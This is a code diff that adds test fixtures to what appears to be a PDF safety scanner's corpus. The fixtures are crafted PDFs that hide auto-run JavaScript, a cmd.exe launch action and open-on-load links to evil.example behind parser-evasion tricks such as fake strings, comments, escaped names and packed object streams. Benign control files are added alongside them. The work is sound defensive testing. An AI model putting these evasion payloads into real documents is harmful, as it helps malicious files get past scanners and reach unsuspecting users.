@@ -98,6 +98,53 @@ export const pdfCorpus: Record<string, { bytes: Buffer; fault: PdfFault | undefi
     bytes: pdf({ catalog: '/OpenAction 4 0 R', more: ['<< /S /URI /URI (https://evil.example) >>'] }),
     fault: 'active',
   },
+  'a script in the middle of what reads like a string': {
+    bytes: pdf({
+      catalog: '/OpenAction 20 0 R',
+      more: [packed('20 1 ', '( << /S /JavaScript /JS <61> >> )')],
+    }),
+    fault: 'active',
+  },
+  'a script in the middle of what reads like a comment': {
+    bytes: pdf({ catalog: '/OpenAction 20 0 R', more: [packed('20 1 ', '% << /S /JavaScript /JS (x) >>')] }),
+    fault: 'active',
+  },
+  'a script behind the end of an object that is a value of it': {
+    bytes: pdf({ catalog: '/X endobj /OpenAction << /S /JavaScript /JS (x) >>' }),
+    fault: 'active',
+  },
+  'a script behind a stream that is a value': {
+    bytes: pdf({ catalog: '/X stream /OpenAction << /S /Java#53cript /JS (x) >>' }),
+    fault: 'active',
+  },
+  'a program in the list of a name tree that looks like a stream': {
+    bytes: pdf({ page: '/Annots [stream << /A << /S %x\n /Launch /F (cmd.exe) >> >>]' }),
+    fault: 'active',
+  },
+  'an address that opens after the harmless place': {
+    bytes: pdf({
+      catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>',
+    }),
+    fault: 'active',
+  },
+  'an address that opens as the second kind of one action': {
+    bytes: pdf({ catalog: '/OpenAction << /S /GoTo /S /URI /URI (https://evil.example) >>' }),
+    fault: 'active',
+  },
+  'an address that opens with it, packed': {
+    bytes: pdf({
+      catalog: '/OpenAction 20 0 R',
+      more: [objectStream(['<< /S /URI /URI (https://evil.example) >>'])],
+    }),
+    fault: 'active',
+  },
+  'an address that opens with it, its number hidden by a comment': {
+    bytes: pdf({
+      catalog: '/OpenAction 9 0 R',
+      begin: '9 0 %comment\nobj << /S /URI /URI (https://evil.example) >>\nendobj\n',
+    }),
+    fault: 'active',
+  },
   'a form of its own program': { bytes: pdf({ catalog: '/AcroForm << /XFA 4 0 R >>' }), fault: 'active' },
   'a form that sends itself': {
     bytes: pdf({ more: ['<< /S /SubmitForm /F (https://evil.example) >>'] }),
@@ -145,6 +192,14 @@ export const goodPdfs: Record<string, Buffer> = {
     catalog: '/OpenAction 4 0 R',
     more: ['<< /S /GoTo /D [3 0 R /Fit] >>'],
   }),
+  'one that says so by a packed action': pdf({
+    catalog: '/OpenAction 20 0 R',
+    more: [objectStream(['<< /S /GoTo /D [3 0 R /Fit] >>', '<< /S /URI /URI (https://example.com/me) >>'])],
+  }),
+  'one that says so by a packed place': pdf({
+    catalog: '/OpenAction 21 0 R',
+    more: [objectStream(['<< /S /URI /URI (https://example.com/me) >>', '[3 0 R /Fit]'])],
+  }),
   'one with packed objects': pdf({ more: [objectStream(['<< /Title (Resume) >>', '[1 2 3]'])] }),
   'one with a link': pdf({
     page: '/Annots [<< /Subtype /Link /A << /S /URI /URI (https://example.com/me) >> >>]',
@@ -161,6 +216,12 @@ export const goodPdfs: Record<string, Buffer> = {
     ),
   ]),
 };
+
+/** An object stream whose index says something else than what its objects, read one after the other, are. */
+function packed(index: string, objects: string): Buffer {
+  const dictionary = `/Type /ObjStm /N 1 /First ${index.length} /Filter /FlateDecode`;
+  return stream(dictionary, deflateSync(index + objects));
+}
 
 function zipEnd(commentLength: number): Buffer {
   const end = Buffer.alloc(22);
